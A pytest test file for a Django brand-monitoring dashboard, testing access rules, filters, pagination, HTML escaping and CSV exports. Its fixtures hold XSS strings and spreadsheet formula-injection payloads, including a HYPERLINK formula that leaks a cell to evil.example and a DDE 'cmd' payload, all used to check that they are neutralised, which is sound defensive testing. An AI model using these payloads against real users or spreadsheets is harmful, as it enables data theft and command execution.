"""The dashboard pages: who sees what, filters, pagination, hostile text, CSV exports."""

# The engagement fixtures are imported by name, which ruff reads as redefinitions.
# ruff: noqa: F401, F811

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from brands.models import Brand
from engagement.models import SentimentCorrection
from listening.models import Author, Mention, Source
from listening.outside import web_url
from tests.engagement.conftest import (
    acme,
    admin_user,
    agent,
    marketer,
    other_brand,
    outsider,
    social_source,
    store_mention,
)

MENTIONS = reverse("dashboard:mentions")
EXPORT = reverse("dashboard:mentions-export")
CORRECTIONS = reverse("dashboard:corrections-export")
INDEX = reverse("dashboard:index")
HOSTILE = '<script>alert("x")</script> acme <img src=x onerror=alert(1)>'


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body, newline="")))


@pytest.fixture
def mentions(social_source):
    now = timezone.now()
    return {
        "happy": store_mention(
            social_source, "I love acme, great service", published_at=now - timedelta(hours=1)
        ),
        "angry": store_mention(
            social_source, "acme is awful and broken", published_at=now - timedelta(hours=2)
        ),
        "plain": store_mention(
            social_source, "acme opens a shop on Main street", published_at=now - timedelta(days=3)
        ),
    }


# -- access ------------------------------------------------------------------------------


def test_a_marketer_sees_the_brands_mentions_newest_first(client, marketer, mentions, acme):
    client.force_login(marketer)
    response = client.get(MENTIONS, {"brand": acme.pk})
    assert response.status_code == 200
    body = response.content.decode()
    assert body.index("I love acme") < body.index("acme is awful") < body.index("Main street")
    assert "positive (" in body and "negative (" in body


def test_an_agent_may_list_mentions_but_not_export_them(client, agent, mentions, acme):
    client.force_login(agent)
    assert client.get(MENTIONS, {"brand": acme.pk}).status_code == 200
    assert client.get(EXPORT, {"brand": acme.pk}).status_code == 403
    assert client.get(CORRECTIONS, {"brand": acme.pk}).status_code == 403
    assert b"Export these mentions" not in client.get(MENTIONS, {"brand": acme.pk}).content


def test_an_outsider_gets_404_for_another_brands_id(client, outsider, mentions, acme):
    client.force_login(outsider)
    assert client.get(MENTIONS, {"brand": acme.pk}).status_code == 404
    assert client.get(EXPORT, {"brand": acme.pk}).status_code == 404
    assert client.get(CORRECTIONS, {"brand": acme.pk}).status_code == 404


def test_an_outsider_without_a_brand_choice_sees_only_their_own_brand(
    client,
    outsider,
    mentions,
):
    client.force_login(outsider)
    response = client.get(MENTIONS)
    assert response.status_code == 200
    assert b"Initech" in response.content
    assert b"acme is awful" not in response.content
    assert b"Acme" not in response.content


def test_a_garbled_brand_id_is_a_404(client, marketer):
    client.force_login(marketer)
    assert client.get(MENTIONS, {"brand": "nope"}).status_code == 404
    assert client.get(MENTIONS, {"brand": "999999"}).status_code == 404


def test_a_competitor_of_another_workspace_cannot_be_picked_as_matched_brand(
    client,
    marketer,
    acme,
    other_brand,
):
    client.force_login(marketer)
    response = client.get(MENTIONS, {"brand": acme.pk, "matched": other_brand.pk})
    assert response.status_code == 404


# -- filters -----------------------------------------------------------------------------


def test_it_filters_by_sentiment_label(client, marketer, mentions, acme):
    client.force_login(marketer)
    body = client.get(MENTIONS, {"brand": acme.pk, "label": "negative"}).content.decode()
    assert "acme is awful" in body
    assert "I love acme" not in body


def test_it_filters_by_text_source_kind_and_platform(
    client,
    marketer,
    mentions,
    acme,
):
    client.force_login(marketer)
    body = client.get(MENTIONS, {"brand": acme.pk, "q": "MAIN STREET"}).content.decode()
    assert "Main street" in body and "I love acme" not in body
    body = client.get(MENTIONS, {"brand": acme.pk, "kind": "rss"}).content.decode()
    assert "No mentions match" in body
    body = client.get(MENTIONS, {"brand": acme.pk, "kind": "mastodon"}).content.decode()
    assert "I love acme" in body
    body = client.get(MENTIONS, {"brand": acme.pk, "platform": "reddit"}).content.decode()
    assert "No mentions match" in body


def test_it_filters_by_a_competitor_the_brands_sources_caught(
    client,
    marketer,
    acme,
    social_source,
):
    store_mention(social_source, "globex is cheaper than ever")
    store_mention(social_source, "acme rocks")
    globex = Brand.objects.get(name="Globex")
    client.force_login(marketer)
    body = client.get(MENTIONS, {"brand": acme.pk, "matched": globex.pk}).content.decode()
    assert "globex is cheaper" in body
    assert "acme rocks" not in body


def test_the_date_filter_reads_days_in_the_configured_time_zone(
    client,
    marketer,
    acme,
    social_source,
    settings,
):
    settings.TIME_ZONE = "America/New_York"
    # 2024-03-10 23:30 in New York is already 2024-03-11 in UTC.
    late = datetime(2024, 3, 11, 3, 30, tzinfo=UTC)
    early = datetime(2024, 3, 10, 12, 0, tzinfo=UTC)
    next_day = datetime(2024, 3, 11, 12, 0, tzinfo=UTC)
    store_mention(social_source, "acme late evening", published_at=late)
    store_mention(social_source, "acme midday", published_at=early)
    store_mention(social_source, "acme the day after", published_at=next_day)
    client.force_login(marketer)
    params = {"brand": acme.pk, "date_from": "2024-03-10", "date_to": "2024-03-10"}
    body = client.get(MENTIONS, params).content.decode()
    assert "acme late evening" in body
    assert "acme midday" in body
    assert "acme the day after" not in body
    # Shown in local time too.
    assert "2024-03-10 23:30" in body


def test_a_reversed_date_range_shows_an_error_and_no_rows(client, marketer, mentions, acme):
    client.force_login(marketer)
    params = {"brand": acme.pk, "date_from": "2024-03-10", "date_to": "2024-03-01"}
    response = client.get(MENTIONS, params)
    assert response.status_code == 200
    assert b"start date is after the end date" in response.content
    assert b"acme is awful" not in response.content


def test_it_shows_an_empty_state(client, marketer, acme):
    client.force_login(marketer)
    assert b"No mentions match" in client.get(MENTIONS, {"brand": acme.pk}).content


def test_it_paginates_by_fifty(client, marketer, acme, social_source):
    now = timezone.now()
    for n in range(55):
        store_mention(social_source, f"acme note {n:02d}", published_at=now - timedelta(minutes=n))
    client.force_login(marketer)
    first = client.get(MENTIONS, {"brand": acme.pk}).content.decode()
    assert first.count('<tr class="mention') == 50
    assert "acme note 00" in first and "acme note 50" not in first
    assert "Page 1 of 2" in first
    second = client.get(MENTIONS, {"brand": acme.pk, "page": 2}).content.decode()
    assert second.count('<tr class="mention') == 5
    assert "acme note 54" in second


def test_the_mentions_page_runs_a_fixed_number_of_queries(
    client,
    marketer,
    acme,
    social_source,
    django_assert_num_queries,
):
    for n in range(12):
        store_mention(social_source, f"acme hello {n}", author_handle=f"user{n}@x")
    client.force_login(marketer)
    # session, user, memberships, brand, competitors, count, page rows, brand choices
    with django_assert_num_queries(8):
        response = client.get(MENTIONS, {"brand": acme.pk})
    assert response.status_code == 200


def test_htmx_requests_get_only_the_results_fragment(client, marketer, mentions, acme):
    client.force_login(marketer)
    response = client.get(MENTIONS, {"brand": acme.pk}, HTTP_HX_REQUEST="true")
    body = response.content.decode()
    assert "I love acme" in body
    assert "<html" not in body


# -- hostile text ------------------------------------------------------------------------


def test_mention_text_and_author_names_are_escaped(client, marketer, acme, social_source):
    from listening.models import Author, Mention

    mention = store_mention(social_source, "acme placeholder")
    # Stored directly: the ingest pipeline strips markup, but nothing downstream may rely on it.
    Mention.objects.filter(pk=mention.pk).update(text=HOSTILE)
    Author.objects.filter(pk=mention.author_id).update(display_name='<b onmouseover="x">Mal</b>')
    client.force_login(marketer)
    body = client.get(MENTIONS, {"brand": acme.pk}).content.decode()
    assert '<script>alert("x")' not in body
    assert "<img src=x" not in body
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in body
    assert "<b onmouseover" not in body
    assert "&lt;b onmouseover=&quot;x&quot;&gt;Mal" in body


def test_only_http_links_are_shown_and_they_do_not_pass_our_referrer(
    client,
    marketer,
    mentions,
    acme,
):
    from listening.models import Mention

    Mention.objects.filter(pk=mentions["angry"].pk).update(url="javascript:alert(1)")
    client.force_login(marketer)
    body = client.get(MENTIONS, {"brand": acme.pk}).content.decode()
    assert "javascript:" not in body
    assert body.count('rel="noopener noreferrer nofollow"') == 2


def test_the_mentions_page_links_only_what_web_url_keeps(client, marketer, mentions, acme):
    from listening.models import Mention
    from tests.listening.test_web_links import LINKS

    kept = 0
    for n, link in enumerate(LINKS):
        store_mention(mentions["plain"].source, f"acme link {n}", external_id=f"link-{n}")
        Mention.objects.filter(external_id=f"link-{n}").update(url=link)
        kept += bool(web_url(link))
    client.force_login(marketer)
    body = client.get(MENTIONS, {"brand": acme.pk}).content.decode()
    # The three fixture mentions have web links; every kept link is shown once.
    assert kept == 3
    assert body.count('rel="noopener noreferrer nofollow"') == 3 + kept
    for link in ("javascript:", "data:", "https://news.example/a b", 'href="https://"'):
        assert link not in body


# -- exports -----------------------------------------------------------------------------


def test_the_export_streams_the_current_filter_with_the_cli_columns(
    client,
    marketer,
    acme,
    social_source,
):
    from listening.exports import MENTION_FIELDS as FIELDS

    store_mention(
        social_source,
        '=HYPERLINK("http://evil") acme is awful',
        author_handle="eve@social.example",
        author_name="Eve",
    )
    store_mention(social_source, "acme is lovely")
    client.force_login(marketer)
    response = client.get(EXPORT, {"brand": acme.pk, "label": "negative"})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="acme-mentions-')
    rows = csv_rows(response)
    assert rows[0] == FIELDS
    assert len(rows) == 2
    record = dict(zip(FIELDS, rows[1], strict=True))
    # Issue 9: the web download is opened in spreadsheets, so a formula is neutralised
    # (exact text is what `manage.py export_mentions` without --spreadsheet-safe gives).
    assert record["text"] == "'" + '=HYPERLINK("http://evil") acme is awful'
    assert record["brand"] == "Acme"
    assert record["author"] == "Eve"
    assert record["label"] == "negative"
    assert record["published_at"].endswith("Z")
    assert record["matched_terms"] == "acme"


def test_the_corrections_export_lists_the_labelled_set(
    client,
    marketer,
    agent,
    acme,
    social_source,
):
    mention = store_mention(social_source, "acme, sick deal")
    SentimentCorrection.objects.create(
        mention=mention,
        brand=acme,
        user=agent,
        original_label=mention.label,
        original_compound=mention.compound,
        label="positive",
        reason="'sick' is praise here",
        created_at=datetime(2024, 5, 1, 8, 0, tzinfo=UTC),
    )
    client.force_login(marketer)
    response = client.get(CORRECTIONS, {"brand": acme.pk})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="acme-corrections-')
    rows = csv_rows(response)
    assert rows[0][:3] == ["mention_id", "text", "vader_label"]
    assert rows[1] == [
        str(mention.pk),
        "acme, sick deal",
        mention.label,
        str(mention.compound),
        "positive",
        "'sick' is praise here",
        "ana",
        "2024-05-01T08:00:00Z",
        # Earshot's label and compound that the agent corrected (issue 13), at the end.
        mention.label,
        str(mention.compound),
    ]


def export_queries(client, url: str, brand: Brand) -> int:
    """Queries for one whole streamed download (the stream runs its query when read)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, {"brand": brand.pk})
        rows = csv_rows(response)
    assert response.status_code == 200 and len(rows) > 1
    return len(queries)


def test_the_exports_run_no_query_per_row(client, marketer, agent, acme, social_source):
    from engagement.services import sentiment_correct

    def correct(mention: Mention) -> None:
        label = "negative" if mention.label == "positive" else "positive"
        sentiment_correct(mention=mention, brand=acme, user=agent, label=label, reason="why")

    client.force_login(marketer)
    correct(store_mention(social_source, "acme one", author_handle="a0@x"))
    few = export_queries(client, EXPORT, acme), export_queries(client, CORRECTIONS, acme)
    for n in range(1, 15):
        correct(store_mention(social_source, f"acme more {n}", author_handle=f"a{n}@x"))
    many = export_queries(client, EXPORT, acme), export_queries(client, CORRECTIONS, acme)
    assert many == few


def test_the_web_export_and_the_cli_write_the_same_record(client, marketer, acme, social_source):
    from django.core.management import call_command

    store_mention(social_source, '=1+1 acme, "quoted"; and more', author_name="@Eve")
    store_mention(social_source, "acme is lovely", author_name="")
    client.force_login(marketer)
    web = csv_rows(client.get(EXPORT, {"brand": acme.pk}))
    out = io.StringIO()
    call_command(
        "export_mentions", "--brand", "Acme", "--spreadsheet-safe", stdout=out, stderr=io.StringIO()
    )
    cli = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    # Same header and cells; the page lists newest first, the command oldest first.
    assert web[0] == cli[0]
    assert sorted(web[1:]) == sorted(cli[1:]) and len(web) == 3


# Every character OWASP lists as starting a formula, with a payload behind it.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def formula(start: str) -> str:
    if start in "\t\r":
        return f'{start}=HYPERLINK("http://evil.example/?leak="&A1, "acme")'
    return f"{start}SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_the_export_neutralises_formulas_in_every_text_column_and_keeps_numbers(
    client, marketer, acme, social_source, start
):
    from listening.exports import MENTION_FIELDS as FIELDS

    mention = store_mention(social_source, "acme is awful and broken")
    payload = formula(start)
    # Stored as a source, an import or the admin could write them (ingest collapses
    # whitespace in text and title, not in every path).
    Mention.objects.filter(pk=mention.pk).update(
        text=payload + " acme", title=payload, external_id=payload
    )
    Author.objects.filter(pk=mention.author_id).update(display_name=payload)
    client.force_login(marketer)
    response = client.get(EXPORT, {"brand": acme.pk})
    assert response.status_code == 200
    rows = csv_rows(response)
    assert len(rows) == 2
    record = dict(zip(FIELDS, rows[1], strict=True))
    assert record["text"] == "'" + payload + " acme"
    assert record["title"] == "'" + payload
    assert record["external_id"] == "'" + payload
    assert record["author"] == "'" + payload
    # Numbers stay numbers a spreadsheet can sum: a negative compound keeps its "-".
    mention.refresh_from_db()
    assert mention.compound < 0
    assert record["compound"] == str(mention.compound)
    assert record["id"] == str(mention.pk)
    assert record["label"] == "negative"


def test_the_export_leaves_ordinary_text_alone(client, marketer, acme, social_source):
    from listening.exports import MENTION_FIELDS as FIELDS

    text = "acme: 1+1=2, e-mail me @ 5 - or not; 'quoted' \"too\""
    store_mention(social_source, text, author_name="Ann-Marie = @ann")
    client.force_login(marketer)
    record = dict(zip(FIELDS, csv_rows(client.get(EXPORT, {"brand": acme.pk}))[1], strict=True))
    assert record["text"] == text
    assert record["author"] == "Ann-Marie = @ann"


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_the_corrections_export_neutralises_formulas_in_text_and_reason(
    client, marketer, agent, acme, social_source, start
):
    mention = store_mention(social_source, "acme is awful")
    payload = formula(start)
    Mention.objects.filter(pk=mention.pk).update(text=payload)
    SentimentCorrection.objects.create(
        mention=mention,
        brand=acme,
        user=agent,
        original_label="negative",
        original_compound=-0.4588,
        label="positive",
        reason=payload,
    )
    client.force_login(marketer)
    response = client.get(CORRECTIONS, {"brand": acme.pk})
    assert response.status_code == 200
    row = csv_rows(response)[1]
    assert row[1] == "'" + payload  # text
    assert row[3] == "-0.4588"  # vader_compound: a number, not neutralised
    assert row[5] == "'" + payload  # reason


# -- index -------------------------------------------------------------------------------


def test_the_index_counts_mentions_by_label_and_corrections(
    client,
    marketer,
    agent,
    mentions,
    acme,
    social_source,
    django_assert_num_queries,
):
    store_mention(
        social_source, "acme ancient news", published_at=timezone.now() - timedelta(days=40)
    )
    SentimentCorrection.objects.create(
        mention=mentions["plain"],
        brand=acme,
        user=agent,
        original_label="neutral",
        original_compound=0.0,
        label="positive",
        reason="a new shop is good news",
    )
    client.force_login(marketer)
    # session, user, memberships, brands, label counts, correction counts
    with django_assert_num_queries(6):
        response = client.get(INDEX)
    summary = response.context["summaries"][0]
    assert summary["brand"] == acme
    assert (summary["positive"], summary["neutral"], summary["negative"]) == (1, 1, 1)
    assert summary["corrections"] == 1
    assert reverse("dashboard:corrections-export").encode() in response.content


def test_an_agent_has_no_dashboard_but_a_link_to_mentions(client, agent, acme):
    client.force_login(agent)
    response = client.get(INDEX)
    assert response.status_code == 200
    assert response.context["summaries"] == []
    assert reverse("dashboard:mentions").encode() in response.content


def test_the_source_kind_filter_offers_every_kind(client, marketer, acme):
    client.force_login(marketer)
    body = client.get(MENTIONS, {"brand": acme.pk}).content.decode()
    for kind in Source.Kind.values:
        assert f'value="{kind}"' in body
